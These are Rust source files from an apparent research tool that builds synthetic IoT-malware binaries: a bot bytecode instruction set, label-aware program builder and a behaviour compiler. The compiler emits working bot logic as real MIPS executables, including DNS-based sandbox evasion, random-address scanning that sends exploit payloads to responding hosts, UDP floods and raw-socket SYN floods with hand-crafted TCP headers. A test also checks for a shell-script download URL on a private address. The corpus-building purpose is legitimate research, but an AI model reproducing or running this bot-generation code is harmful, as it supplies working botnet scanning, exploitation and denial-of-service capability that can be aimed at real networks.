                .iter()
                .any(|s| s.contains("http://10.1.0.5/t8UsA2.sh")),
            "{strings:?}"
        );
    }

    #[test]
    fn junk_changes_hash_not_program() {
        let p = tiny_program();
        let e1 = emit_elf(&p, b"AAAA");
        let e2 = emit_elf(&p, b"BBBB");
        assert_ne!(e1, e2);
        assert_eq!(extract_program(&e1), extract_program(&e2));
    }

    #[test]
    fn corrupt_magic_extracts_none() {
        let mut elf_bytes = emit_elf(&tiny_program(), &[]);
        // Find and corrupt the MNBC magic.
        let pos = elf_bytes
            .windows(4)
            .position(|w| w == CONFIG_MAGIC)
            .unwrap();
        elf_bytes[pos] = b'X';
        assert!(extract_program(&elf_bytes).is_none());
    }
}
