//! The bot bytecode ISA ("MNBC"): the behaviour language compiled into
//! every synthetic malware binary.
//!
//! A real IoT bot is a C program compiled to MIPS. Ours is a bytecode
//! program interpreted by a hand-written MIPS stub (see [`crate::stub`]),
//! which keeps every *observable* property authentic — the file is a real
//! MIPS ELF, executing it runs real MIPS instructions, and all behaviour
//! flows through real Linux o32 syscalls — while letting the corpus
//! generator express family logic (C2 check-in, command parsing, scanning,
//! exploitation, floods) compactly.
//!
//! ## Encoding
//!
//! Fixed 16-byte records, big-endian:
//! `op:u8  r:u8  x:u8  y:u8  a:u32  b:u32  c:u32`
//!
//! The VM has 16 registers (`r0..r15`, u32), a 4 KiB working buffer
//! ("RBUF": receive area at offset 0, packet-craft area at
//! [`CRAFT_OFF`]), and read-only access to the binary's data blob
//! (strings, payload templates) in `.rodata`.

use std::fmt;

/// Number of VM registers.
pub const NUM_REGS: usize = 16;
/// Size of the VM working buffer.
pub const RBUF_SIZE: u32 = 4096;
/// Offset within RBUF where packet-crafting scratch space starts.
pub const CRAFT_OFF: u32 = 2048;
/// Bytes per bytecode record.
pub const RECORD_SIZE: usize = 16;

/// Socket types for [`Op::Socket`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SockKind {
    /// TCP stream socket.
    Tcp,
    /// UDP datagram socket.
    Udp,
    /// Raw socket carrying hand-built TCP segments (SYN floods).
    RawTcp,
    /// Raw socket carrying hand-built ICMP messages (BLACKNURSE).
    RawIcmp,
}

impl SockKind {
    /// Encoding used in the `x` field.
    pub fn code(self) -> u8 {
        match self {
            SockKind::Tcp => 0,
            SockKind::Udp => 1,
            SockKind::RawTcp => 2,
            SockKind::RawIcmp => 3,
        }
    }

    /// Decode from the `x` field.
    pub fn from_code(c: u8) -> Option<Self> {
        Some(match c {
            0 => SockKind::Tcp,
            1 => SockKind::Udp,
            2 => SockKind::RawTcp,
            3 => SockKind::RawIcmp,
            _ => return None,
        })
    }
}

/// A VM register index (0..16).
pub type VReg = u8;

/// One bytecode instruction.
///
/// Field conventions: `dst`/`r*` are VM register indices; `a`/`b`/`c`
/// are 32-bit immediates; "blob" offsets index the binary's `.rodata`
/// data blob; "rbuf" offsets index the working buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Op {
    /// Terminate the process (`exit(0)`).
    End,
    /// `r = a`.
    Ldi {
        r: VReg,
        a: u32,
    },
    /// `r = x`.
    Mov {
        r: VReg,
        x: VReg,
    },
    Add {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    Sub {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    Mul {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    /// `r = x + a` (also subtract via wrapping).
    Addi {
        r: VReg,
        x: VReg,
        a: u32,
    },
    And {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    Or {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    Shr {
        r: VReg,
        x: VReg,
        a: u32,
    },
    Shl {
        r: VReg,
        x: VReg,
        a: u32,
    },
    /// Unsigned modulo: `r = x % y` (y must be nonzero).
    Mod {
        r: VReg,
        x: VReg,
        y: VReg,
    },
    /// Unconditional jump to record index `a`.
    Jmp {
        a: u32,
    },
    /// Jump to `a` if `x == y`.
    Jeq {
        x: VReg,
        y: VReg,
        a: u32,
    },
    /// Jump to `a` if `x != y`.
    Jne {
        x: VReg,
        y: VReg,
        a: u32,
    },
    /// Jump to `a` if `x < y` (unsigned).
    Jlt {
        x: VReg,
        y: VReg,
        a: u32,
    },
    /// `r = random u32` (getrandom syscall).
    Rand {
        r: VReg,
    },
    /// Sleep `a` milliseconds (nanosleep).
    SleepMs {
        a: u32,
    },
    /// Sleep `reg[x]` milliseconds.
    SleepR {
        x: VReg,
    },
    /// `r = socket(kind)`.
    Socket {
        r: VReg,
        kind: SockKind,
    },
    /// Connect fd `x` to ip `reg[y]`, port: `a` if nonzero else `reg[r]`…
    /// result (0 ok / -1 fail) in `reg[r]` — when `a == 0`, the port is
    /// taken from `reg[b]` (b is a register index here).
    Connect {
        r: VReg,
        x: VReg,
        y: VReg,
        a: u32,
        b: u32,
    },
    /// `send(fd=x, blob[a..a+b])`.
    Send {
        x: VReg,
        a: u32,
        b: u32,
    },
    /// `send(fd=x, rbuf[reg[y]..reg[y]+reg[b]])` (b is a register index).
    SendR {
        x: VReg,
        y: VReg,
        b: u32,
    },
    /// `r = recv(fd=x)` into RBUF[0..]; `a` = timeout ms; -1 on
    /// timeout/closed.
    Recv {
        r: VReg,
        x: VReg,
        a: u32,
    },
    /// Orderly close of fd `x`.
    Close {
        x: VReg,
    },
    /// Abortive close (RST) of fd `x`.
    Abort {
        x: VReg,
    },
    /// `sendto(fd=x, ip=reg[y], port=(a nonzero ? a : reg[r]),
    /// blob[b..b+c])`.
    SendTo {
        x: VReg,
        y: VReg,
        r: VReg,
        a: u32,
        b: u32,
        c: u32,
    },
    /// `sendto` from RBUF: `sendto(fd=x, ip=reg[y], port=reg[r],
    /// rbuf[a..a+b])` — used for crafted floods with varying bytes.
    SendToR {
        x: VReg,
        y: VReg,
        r: VReg,
        a: u32,
        b: u32,
    },
    /// `r = recvfrom(fd=x)` into RBUF[0..]; `a` = timeout ms.
    RecvFrom {
        r: VReg,
        x: VReg,
        a: u32,
    },
    /// `r = rbuf[reg[x]]` (byte load).
    Ldb {
        r: VReg,
        x: VReg,
    },
    /// `r = BE u32 at rbuf[reg[x]]` (unaligned ok).
    Ldw {
        r: VReg,
        x: VReg,
    },
    /// `rbuf[reg[x]] = low byte of reg[y]`.
    Stb {
        x: VReg,
        y: VReg,
    },
    /// Copy `blob[a..a+b]` into rbuf at offset `c`.
    Cpy {
        a: u32,
        b: u32,
        c: u32,
    },
    /// Parse dotted-quad ASCII at `rbuf[reg[x]]` → `reg[r]`; advances
    /// `reg[x]` past the address. On failure `reg[r] = 0`.
    ParseIp {
        r: VReg,
        x: VReg,
    },
    /// Parse decimal ASCII at `rbuf[reg[x]]` → `reg[r]`; advances `reg[x]`.
    ParseNum {
        r: VReg,
        x: VReg,
    },
    /// Advance `reg[x]` past spaces.
    SkipSp {
        x: VReg,
    },
    /// `reg[r] = 1` if `rbuf[reg[x]..]` starts with `blob[a..a+b]`, else 0.
    Match {
        r: VReg,
        x: VReg,
        a: u32,
        b: u32,
    },
    /// Send a raw transport payload: `fd=x` must be a raw socket; payload
    /// is rbuf[a..a+b]; destination ip `reg[y]`. For RawTcp the payload is
    /// a 20-byte TCP header the program crafted; for RawIcmp an ICMP
    /// message.
    RawSend {
        x: VReg,
        y: VReg,
        a: u32,
        b: u32,
    },
}

impl Op {
    /// Opcode byte.
    pub fn code(&self) -> u8 {
        match self {
            Op::End => 0,
            Op::Ldi { .. } => 1,
            Op::Mov { .. } => 2,
            Op::Add { .. } => 3,
            Op::Sub { .. } => 4,
            Op::Mul { .. } => 5,
            Op::Addi { .. } => 6,
            Op::And { .. } => 7,
            Op::Or { .. } => 8,
            Op::Shr { .. } => 9,
            Op::Shl { .. } => 10,
            Op::Mod { .. } => 11,
            Op::Jmp { .. } => 12,
            Op::Jeq { .. } => 13,
            Op::Jne { .. } => 14,
            Op::Jlt { .. } => 15,
            Op::Rand { .. } => 16,
            Op::SleepMs { .. } => 17,
            Op::SleepR { .. } => 18,
            Op::Socket { .. } => 19,
            Op::Connect { .. } => 20,
            Op::Send { .. } => 21,
            Op::SendR { .. } => 22,
            Op::Recv { .. } => 23,
            Op::Close { .. } => 24,
            Op::Abort { .. } => 25,
            Op::SendTo { .. } => 26,
            Op::SendToR { .. } => 27,
            Op::RecvFrom { .. } => 28,
            Op::Ldb { .. } => 29,
            Op::Ldw { .. } => 30,
            Op::Stb { .. } => 31,
            Op::Cpy { .. } => 32,
            Op::ParseIp { .. } => 33,
            Op::ParseNum { .. } => 34,
            Op::SkipSp { .. } => 35,
            Op::Match { .. } => 36,
            Op::RawSend { .. } => 37,
        }
    }

    /// Encode to a 16-byte record.
    pub fn encode(&self) -> [u8; RECORD_SIZE] {
        let mut rec = [0u8; RECORD_SIZE];
        rec[0] = self.code();
        let (r, x, y, a, b, c) = match *self {
            Op::End => (0, 0, 0, 0, 0, 0),
            Op::Ldi { r, a } => (r, 0, 0, a, 0, 0),
            Op::Mov { r, x } => (r, x, 0, 0, 0, 0),
            Op::Add { r, x, y } | Op::Sub { r, x, y } | Op::Mul { r, x, y } => (r, x, y, 0, 0, 0),
            Op::Addi { r, x, a } => (r, x, 0, a, 0, 0),
            Op::And { r, x, y } | Op::Or { r, x, y } | Op::Mod { r, x, y } => (r, x, y, 0, 0, 0),
            Op::Shr { r, x, a } | Op::Shl { r, x, a } => (r, x, 0, a, 0, 0),
            Op::Jmp { a } => (0, 0, 0, a, 0, 0),
            Op::Jeq { x, y, a } | Op::Jne { x, y, a } | Op::Jlt { x, y, a } => (0, x, y, a, 0, 0),
            Op::Rand { r } => (r, 0, 0, 0, 0, 0),
            Op::SleepMs { a } => (0, 0, 0, a, 0, 0),
            Op::SleepR { x } => (0, x, 0, 0, 0, 0),
            Op::Socket { r, kind } => (r, kind.code(), 0, 0, 0, 0),
            Op::Connect { r, x, y, a, b } => (r, x, y, a, b, 0),
            Op::Send { x, a, b } => (0, x, 0, a, b, 0),
            Op::SendR { x, y, b } => (0, x, y, 0, b, 0),
            Op::Recv { r, x, a } => (r, x, 0, a, 0, 0),
            Op::Close { x } => (0, x, 0, 0, 0, 0),
            Op::Abort { x } => (0, x, 0, 0, 0, 0),
            Op::SendTo { x, y, r, a, b, c } => (r, x, y, a, b, c),
            Op::SendToR { x, y, r, a, b } => (r, x, y, a, b, 0),
            Op::RecvFrom { r, x, a } => (r, x, 0, a, 0, 0),
            Op::Ldb { r, x } | Op::Ldw { r, x } => (r, x, 0, 0, 0, 0),
            Op::Stb { x, y } => (0, x, y, 0, 0, 0),
            Op::Cpy { a, b, c } => (0, 0, 0, a, b, c),
            Op::ParseIp { r, x } | Op::ParseNum { r, x } => (r, x, 0, 0, 0, 0),
            Op::SkipSp { x } => (0, x, 0, 0, 0, 0),
            Op::Match { r, x, a, b } => (r, x, 0, a, b, 0),
            Op::RawSend { x, y, a, b } => (0, x, y, a, b, 0),
        };
        rec[1] = r;
        rec[2] = x;
        rec[3] = y;
        rec[4..8].copy_from_slice(&a.to_be_bytes());
        rec[8..12].copy_from_slice(&b.to_be_bytes());
        rec[12..16].copy_from_slice(&c.to_be_bytes());
        rec
    }

    /// Decode one record.
    pub fn decode(rec: &[u8]) -> Option<Op> {
        if rec.len() < RECORD_SIZE {
            return None;
        }
        let r = rec[1];
        let x = rec[2];
        let y = rec[3];
        let a = u32::from_be_bytes([rec[4], rec[5], rec[6], rec[7]]);
        let b = u32::from_be_bytes([rec[8], rec[9], rec[10], rec[11]]);
        let c = u32::from_be_bytes([rec[12], rec[13], rec[14], rec[15]]);
        Some(match rec[0] {
            0 => Op::End,
            1 => Op::Ldi { r, a },
            2 => Op::Mov { r, x },
            3 => Op::Add { r, x, y },
            4 => Op::Sub { r, x, y },
            5 => Op::Mul { r, x, y },
            6 => Op::Addi { r, x, a },
            7 => Op::And { r, x, y },
            8 => Op::Or { r, x, y },
            9 => Op::Shr { r, x, a },
            10 => Op::Shl { r, x, a },
            11 => Op::Mod { r, x, y },
            12 => Op::Jmp { a },
            13 => Op::Jeq { x, y, a },
            14 => Op::Jne { x, y, a },
            15 => Op::Jlt { x, y, a },
            16 => Op::Rand { r },
            17 => Op::SleepMs { a },
            18 => Op::SleepR { x },
            19 => Op::Socket {
                r,
                kind: SockKind::from_code(x)?,
            },
            20 => Op::Connect { r, x, y, a, b },
            21 => Op::Send { x, a, b },
            22 => Op::SendR { x, y, b },
            23 => Op::Recv { r, x, a },
            24 => Op::Close { x },
            25 => Op::Abort { x },
            26 => Op::SendTo { x, y, r, a, b, c },
            27 => Op::SendToR { x, y, r, a, b },
            28 => Op::RecvFrom { r, x, a },
            29 => Op::Ldb { r, x },
            30 => Op::Ldw { r, x },
            31 => Op::Stb { x, y },
            32 => Op::Cpy { a, b, c },
            33 => Op::ParseIp { r, x },
            34 => Op::ParseNum { r, x },
            35 => Op::SkipSp { x },
            36 => Op::Match { r, x, a, b },
            37 => Op::RawSend { x, y, a, b },
            _ => return None,
        })
    }
}

impl fmt::Display for Op {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// A label-aware bytecode program builder plus its data blob.
#[derive(Debug, Default, Clone)]
pub struct ProgramBuilder {
    ops: Vec<Op>,
    fixups: Vec<(usize, String)>,
    labels: std::collections::BTreeMap<String, u32>,
    blob: Vec<u8>,
}

impl ProgramBuilder {
    /// Empty program.
    pub fn new() -> Self {
        Self::default()
    }

    /// Append an op.
    pub fn op(&mut self, op: Op) -> &mut Self {
        self.ops.push(op);
        self
    }

    /// Define a label at the current record index.
    pub fn label(&mut self, name: &str) -> &mut Self {
        let idx = self.ops.len() as u32;
        assert!(
            self.labels.insert(name.to_string(), idx).is_none(),
            "duplicate bytecode label {name}"
        );
        self
    }

    /// Append a jump-family op whose target is a label, fixed up at build.
    pub fn jump(&mut self, op: Op, label: &str) -> &mut Self {
        self.fixups.push((self.ops.len(), label.to_string()));
        self.ops.push(op);
        self
    }

    /// Intern bytes into the blob, returning `(offset, len)`.
    pub fn blob(&mut self, bytes: &[u8]) -> (u32, u32) {
        let off = self.blob.len() as u32;
        self.blob.extend_from_slice(bytes);
        (off, bytes.len() as u32)
    }

    /// Intern a string into the blob.
    pub fn blob_str(&mut self, s: &str) -> (u32, u32) {
        self.blob(s.as_bytes())
    }

    /// Current record count.
    pub fn len(&self) -> usize {
        self.ops.len()
    }

    /// True when no ops have been added.
    pub fn is_empty(&self) -> bool {
        self.ops.is_empty()
    }

    /// Resolve labels and produce `(bytecode, blob)`.
    pub fn build(mut self) -> (Vec<u8>, Vec<u8>) {
        for (idx, label) in &self.fixups {
            let target = *self
                .labels
                .get(label)
                .unwrap_or_else(|| panic!("undefined bytecode label {label}"));
            match &mut self.ops[*idx] {
                Op::Jmp { a } | Op::Jeq { a, .. } | Op::Jne { a, .. } | Op::Jlt { a, .. } => {
                    *a = target;
                }
                other => panic!("jump fixup on non-jump {other:?}"),
            }
        }
        let mut code = Vec::with_capacity(self.ops.len() * RECORD_SIZE);
        for op in &self.ops {
            code.extend_from_slice(&op.encode());
        }
        (code, self.blob)
    }
}

/// Decode a whole bytecode buffer (for tests and analyst tooling).
pub fn decode_all(code: &[u8]) -> Option<Vec<Op>> {
    if !code.len().is_multiple_of(RECORD_SIZE) {
        return None;
    }
    code.chunks_exact(RECORD_SIZE).map(Op::decode).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_ops_roundtrip() {
        let ops = vec![
            Op::End,
            Op::Ldi {
                r: 3,
                a: 0xdeadbeef,
            },
            Op::Mov { r: 1, x: 2 },
            Op::Add { r: 1, x: 2, y: 3 },
            Op::Sub { r: 1, x: 2, y: 3 },
            Op::Mul { r: 1, x: 2, y: 3 },
            Op::Addi { r: 1, x: 2, a: 77 },
            Op::And { r: 1, x: 2, y: 3 },
            Op::Or { r: 1, x: 2, y: 3 },
            Op::Shr { r: 1, x: 2, a: 8 },
            Op::Shl { r: 1, x: 2, a: 16 },
            Op::Mod { r: 1, x: 2, y: 3 },
            Op::Jmp { a: 9 },
            Op::Jeq { x: 1, y: 2, a: 5 },
            Op::Jne { x: 1, y: 2, a: 5 },
            Op::Jlt { x: 1, y: 2, a: 5 },
            Op::Rand { r: 7 },
            Op::SleepMs { a: 250 },
            Op::SleepR { x: 4 },
            Op::Socket {
                r: 0,
                kind: SockKind::RawIcmp,
            },
            Op::Connect {
                r: 1,
                x: 0,
                y: 2,
                a: 23,
                b: 0,
            },
            Op::Send { x: 0, a: 4, b: 10 },
            Op::SendR { x: 0, y: 1, b: 2 },
            Op::Recv {
                r: 3,
                x: 0,
                a: 5000,
            },
            Op::Close { x: 0 },
            Op::Abort { x: 0 },
            Op::SendTo {
                x: 0,
                y: 1,
                r: 2,
                a: 80,
                b: 0,
                c: 1,
            },
            Op::SendToR {
                x: 0,
                y: 1,
                r: 2,
                a: 2048,
                b: 20,
            },
            Op::RecvFrom { r: 3, x: 0, a: 100 },
            Op::Ldb { r: 1, x: 2 },
            Op::Ldw { r: 1, x: 2 },
            Op::Stb { x: 1, y: 2 },
            Op::Cpy {
                a: 0,
                b: 20,
                c: 2048,
            },
            Op::ParseIp { r: 1, x: 2 },
            Op::ParseNum { r: 1, x: 2 },
            Op::SkipSp { x: 2 },
            Op::Match {
                r: 1,
                x: 2,
                a: 0,
                b: 4,
            },
            Op::RawSend {
                x: 0,
                y: 1,
                a: 2048,
                b: 20,
            },
        ];
        for op in &ops {
            let rec = op.encode();
            assert_eq!(Op::decode(&rec).as_ref(), Some(op), "{op}");
        }
        // And as a full buffer.
        let buf: Vec<u8> = ops.iter().flat_map(|o| o.encode()).collect();
        assert_eq!(decode_all(&buf).unwrap(), ops);
    }

    #[test]
    fn opcodes_are_unique_and_dense() {
        use std::collections::HashSet;
        let sample = [
            Op::End,
            Op::Ldi { r: 0, a: 0 },
            Op::RawSend {
                x: 0,
                y: 0,
                a: 0,
                b: 0,
            },
        ];
        let mut seen = HashSet::new();
        for op in &sample {
            assert!(seen.insert(op.code()));
        }
        assert_eq!(sample[2].code(), 37, "RawSend is the last opcode");
    }

    #[test]
    fn builder_resolves_labels() {
        let mut b = ProgramBuilder::new();
        b.label("start")
            .op(Op::Ldi { r: 0, a: 1 })
            .jump(Op::Jne { x: 0, y: 1, a: 0 }, "end")
            .jump(Op::Jmp { a: 0 }, "start")
            .label("end")
            .op(Op::End);
        let (code, _blob) = b.build();
        let ops = decode_all(&code).unwrap();
        assert_eq!(ops[1], Op::Jne { x: 0, y: 1, a: 3 });
        assert_eq!(ops[2], Op::Jmp { a: 0 });
    }

    #[test]
    #[should_panic(expected = "undefined bytecode label")]
    fn undefined_label_panics_at_build() {
        let mut b = ProgramBuilder::new();
        b.jump(Op::Jmp { a: 0 }, "nowhere");
        let _ = b.build();
    }

    #[test]
    fn blob_interning_offsets() {
        let mut b = ProgramBuilder::new();
        let (o1, l1) = b.blob_str("UDP ");
        let (o2, l2) = b.blob(&[0, 0, 0, 1]);
        assert_eq!((o1, l1), (0, 4));
        assert_eq!((o2, l2), (4, 4));
        b.op(Op::End);
        let (_, blob) = b.build();
        assert_eq!(blob, b"UDP \x00\x00\x00\x01");
    }

    #[test]
    fn garbage_decodes_to_none() {
        assert!(Op::decode(&[99; 16]).is_none());
        assert!(decode_all(&[0; 15]).is_none());
        assert!(Op::decode(&[19, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).is_none());
    }
}
