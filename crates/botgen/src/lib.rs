//! # malnet-botgen — the synthetic IoT-malware world model
//!
//! Stand-in for the gated resources the paper used (VirusTotal /
//! MalwareBazaar feeds and the live botnet ecosystem). Work in progress
//! during bring-up.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod binary;
pub mod botvm;
pub mod c2service;
pub mod exploitdb;
pub mod programs;
pub mod spec;
pub mod stub;
pub mod world;
