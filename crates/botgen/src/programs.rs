//! The behaviour compiler: [`BehaviorSpec`] → bot bytecode.
//!
//! Register conventions shared by all generated programs:
//!
//! | reg | use |
//! |-----|-----|
//! | r0  | C2 socket fd |
//! | r1  | C2 IP |
//! | r2  | result scratch |
//! | r3  | recv length |
//! | r4  | parse position |
//! | r5  | attack/scan socket fd |
//! | r6  | attack target IP |
//! | r7  | attack target port |
//! | r8  | attack duration (seconds) |
//! | r9  | loop counter |
//! | r10 | constant 0 |
//! | r11 | scratch (scan IP, masks) |
//! | r12 | random value |
//! | r13 | constant 1 |
//! | r14 | constant 0xffffffff (-1) |
//! | r15 | scratch |

use std::net::Ipv4Addr;

use malnet_protocols::Family;
use malnet_wire::dns::{DnsMessage, DomainName};
use malnet_wire::icmp::IcmpMessage;

use crate::binary::BotProgram;
use crate::botvm::{Op, ProgramBuilder, SockKind, CRAFT_OFF};
use crate::spec::{BehaviorSpec, C2Endpoint};

const R_C2FD: u8 = 0;
const R_C2IP: u8 = 1;
const R_RES: u8 = 2;
const R_LEN: u8 = 3;
const R_POS: u8 = 4;
const R_FD2: u8 = 5;
const R_AIP: u8 = 6;
const R_APORT: u8 = 7;
const R_DUR: u8 = 8;
const R_CNT: u8 = 9;
const R_ZERO: u8 = 10;
const R_SCR1: u8 = 11;
const R_RAND: u8 = 12;
const R_ONE: u8 = 13;
const R_M1: u8 = 14;
const R_SCR2: u8 = 15;

/// Deterministic label factory.
struct Names(u32);
impl Names {
    fn next(&mut self, p: &str) -> String {
        self.0 += 1;
        format!("{}_{}", p, self.0)
    }
}

/// Compile a behaviour spec into a loadable program.
pub fn compile(spec: &BehaviorSpec) -> BotProgram {
    let mut b = ProgramBuilder::new();
    let mut n = Names(0);

    // The family banner lives in the blob (never referenced by code,
    // exactly like the busybox banner strings in real samples).
    let _ = b.blob_str(&spec.banner);
    // Constants.
    b.op(Op::Ldi { r: R_ZERO, a: 0 })
        .op(Op::Ldi { r: R_ONE, a: 1 })
        .op(Op::Ldi {
            r: R_M1,
            a: u32::MAX,
        });

    // Evasion: check connectivity via DNS; abort when the Internet is
    // "missing" (the sandbox's InetSim counter-measure defeats this).
    if spec.evasive {
        let ok = n.next("evade_ok");
        emit_resolve(
            &mut b,
            &mut n,
            spec.resolver,
            "update.busybox-cdn.example.org",
            R_SCR2,
            "evade_fail",
        );
        b.jump(Op::Jmp { a: 0 }, &ok);
        b.label("evade_fail").op(Op::End);
        b.label(&ok);
    }

    match spec.family {
        Family::Mozi | Family::Hajime => compile_p2p(spec, &mut b, &mut n),
        Family::VpnFilter => compile_vpnfilter(spec, &mut b, &mut n),
        _ => compile_c2_bot(spec, &mut b, &mut n),
    }

    let (bytecode, blob) = b.build();
    BotProgram { bytecode, blob }
}

/// DNS resolution: query `name` via `resolver`; on success the answer's
/// first A record lands in `dst`; on failure jump to `fail`.
fn emit_resolve(
    b: &mut ProgramBuilder,
    n: &mut Names,
    resolver: Ipv4Addr,
    name: &str,
    dst: u8,
    fail: &str,
) {
    let dn = DomainName::new(name).expect("valid domain in spec");
    let query = DnsMessage::query(0x4d4e, dn).encode();
    let qname_len = name.len() as u32 + 2;
    let answer_off = 12 + (qname_len + 4) + qname_len + 10;
    let (qoff, qlen) = b.blob(&query);
    b.op(Op::Socket {
        r: R_FD2,
        kind: SockKind::Udp,
    })
    .op(Op::Ldi {
        r: R_SCR1,
        a: u32::from(resolver),
    })
    .op(Op::SendTo {
        x: R_FD2,
        y: R_SCR1,
        r: 0,
        a: 53,
        b: qoff,
        c: qlen,
    })
    .op(Op::RecvFrom {
        r: R_LEN,
        x: R_FD2,
        a: 5000,
    })
    .op(Op::Close { x: R_FD2 });
    b.jump(
        Op::Jeq {
            x: R_LEN,
            y: R_M1,
            a: 0,
        },
        fail,
    );
    // rcode == 0?
    b.op(Op::Ldi { r: R_POS, a: 3 })
        .op(Op::Ldb { r: R_RES, x: R_POS })
        .op(Op::Ldi { r: R_SCR1, a: 0x0f })
        .op(Op::And {
            r: R_RES,
            x: R_RES,
            y: R_SCR1,
        });
    b.jump(
        Op::Jne {
            x: R_RES,
            y: R_ZERO,
            a: 0,
        },
        fail,
    );
    // ANCOUNT low byte nonzero?
    b.op(Op::Ldi { r: R_POS, a: 7 })
        .op(Op::Ldb { r: R_RES, x: R_POS });
    b.jump(
        Op::Jeq {
            x: R_RES,
            y: R_ZERO,
            a: 0,
        },
        fail,
    );
    b.op(Op::Ldi {
        r: R_POS,
        a: answer_off,
    })
    .op(Op::Ldw { r: dst, x: R_POS });
    let _ = n;
}

/// One burst of scanning + exploitation: for each exploit, try
/// `scan_burst` random addresses in the pool, firing the payload at any
/// victim that completes the handshake.
fn emit_scan_burst(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec) {
    for plan in &spec.exploits {
        let payload = plan.payload();
        let (poff, plen) = b.blob(&payload);
        let port = u32::from(plan.port());
        let top = n.next("scan");
        let fail = n.next("scan_fail");
        let next = n.next("scan_next");
        b.op(Op::Ldi {
            r: R_CNT,
            a: spec.scan_burst.max(1),
        });
        b.label(&top);
        b.op(Op::Rand { r: R_RAND })
            .op(Op::Ldi {
                r: R_SCR1,
                a: spec.scan_mask,
            })
            .op(Op::And {
                r: R_RAND,
                x: R_RAND,
                y: R_SCR1,
            })
            .op(Op::Ldi {
                r: R_SCR1,
                a: u32::from(spec.scan_base),
            })
            .op(Op::Or {
                r: R_SCR1,
                x: R_SCR1,
                y: R_RAND,
            })
            .op(Op::Socket {
                r: R_FD2,
                kind: SockKind::Tcp,
            })
            .op(Op::Connect {
                r: R_RES,
                x: R_FD2,
                y: R_SCR1,
                a: port,
                b: 0,
            });
        b.jump(
            Op::Jne {
                x: R_RES,
                y: R_ZERO,
                a: 0,
            },
            &fail,
        );
        b.op(Op::Send {
            x: R_FD2,
            a: poff,
            b: plen,
        })
        .op(Op::Recv {
            r: R_RES,
            x: R_FD2,
            a: 2000,
        })
        .op(Op::Close { x: R_FD2 });
        b.jump(Op::Jmp { a: 0 }, &next);
        b.label(&fail).op(Op::Close { x: R_FD2 });
        b.label(&next).op(Op::Sub {
            r: R_CNT,
            x: R_CNT,
            y: R_ONE,
        });
        b.jump(
            Op::Jne {
                x: R_CNT,
                y: R_ZERO,
                a: 0,
            },
            &top,
        );
    }
}

/// Flood-loop preamble: compute `count = duration * pps` in `R_CNT`;
/// jumps to `ret` when the count is zero.
fn emit_flood_count(b: &mut ProgramBuilder, spec: &BehaviorSpec, ret: &str) {
    b.op(Op::Ldi {
        r: R_SCR2,
        a: spec.attack_pps.max(1),
    })
    .op(Op::Mul {
        r: R_CNT,
        x: R_DUR,
        y: R_SCR2,
    });
    b.jump(
        Op::Jeq {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        ret,
    );
}

fn per_packet_sleep_ms(pps: u32) -> u32 {
    (1000 / pps.max(1)).max(1)
}

/// Datagram flood from a blob payload: target `R_AIP:R_APORT` for
/// `R_DUR` seconds.
fn emit_udp_flood(
    b: &mut ProgramBuilder,
    n: &mut Names,
    spec: &BehaviorSpec,
    payload: &[u8],
    ret: &str,
) {
    let (poff, plen) = b.blob(payload);
    emit_flood_count(b, spec, ret);
    b.op(Op::Socket {
        r: R_FD2,
        kind: SockKind::Udp,
    });
    let top = n.next("udpf");
    b.label(&top);
    b.op(Op::SendTo {
        x: R_FD2,
        y: R_AIP,
        r: R_APORT,
        a: 0,
        b: poff,
        c: plen,
    })
    .op(Op::SleepMs {
        a: per_packet_sleep_ms(spec.attack_pps),
    })
    .op(Op::Sub {
        r: R_CNT,
        x: R_CNT,
        y: R_ONE,
    });
    b.jump(
        Op::Jne {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        &top,
    );
    b.op(Op::Close { x: R_FD2 });
    b.jump(Op::Jmp { a: 0 }, ret);
}

/// SYN flood via a raw socket and a hand-patched TCP header.
fn emit_syn_flood(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
    // 20-byte TCP header template: SYN, data offset 5, window 0xffff.
    let tmpl: [u8; 20] = [
        0xd3, 0x31, // src port placeholder
        0x00, 0x00, // dst port patched at run time
        0, 0, 0, 0, // seq patched
        0, 0, 0, 0, // ack
        0x50, 0x02, // offset 5, SYN
        0xff, 0xff, // window
        0, 0, 0, 0, // checksum (filled by "kernel"), urgent
    ];
    let (toff, _) = b.blob(&tmpl);
    emit_flood_count(b, spec, ret);
    b.op(Op::Cpy {
        a: toff,
        b: 20,
        c: CRAFT_OFF,
    });
    // dst port bytes 2..3.
    b.op(Op::Shr {
        r: R_SCR2,
        x: R_APORT,
        a: 8,
    })
    .op(Op::Ldi {
        r: R_POS,
        a: CRAFT_OFF + 2,
    })
    .op(Op::Stb {
        x: R_POS,
        y: R_SCR2,
    })
    .op(Op::Ldi {
        r: R_POS,
        a: CRAFT_OFF + 3,
    })
    .op(Op::Stb {
        x: R_POS,
        y: R_APORT,
    })
    .op(Op::Socket {
        r: R_FD2,
        kind: SockKind::RawTcp,
    });
    let top = n.next("synf");
    b.label(&top);
    b.op(Op::Rand { r: R_RAND });
    if spec.syn_multi_sport {
        // Randomise source port (bytes 0..1).
        b.op(Op::Ldi {
            r: R_POS,
            a: CRAFT_OFF,
        })
        .op(Op::Shr {
            r: R_SCR2,
            x: R_RAND,
            a: 8,
        })
        .op(Op::Stb {
            x: R_POS,
            y: R_SCR2,
        })
        .op(Op::Ldi {
            r: R_POS,
            a: CRAFT_OFF + 1,
        })
        .op(Op::Stb {
            x: R_POS,
            y: R_RAND,
        });
    }
    // Randomise a sequence byte.
    b.op(Op::Ldi {
        r: R_POS,
        a: CRAFT_OFF + 4,
    })
    .op(Op::Stb {
        x: R_POS,
        y: R_RAND,
    })
    .op(Op::RawSend {
        x: R_FD2,
        y: R_AIP,
        a: CRAFT_OFF,
        b: 20,
    })
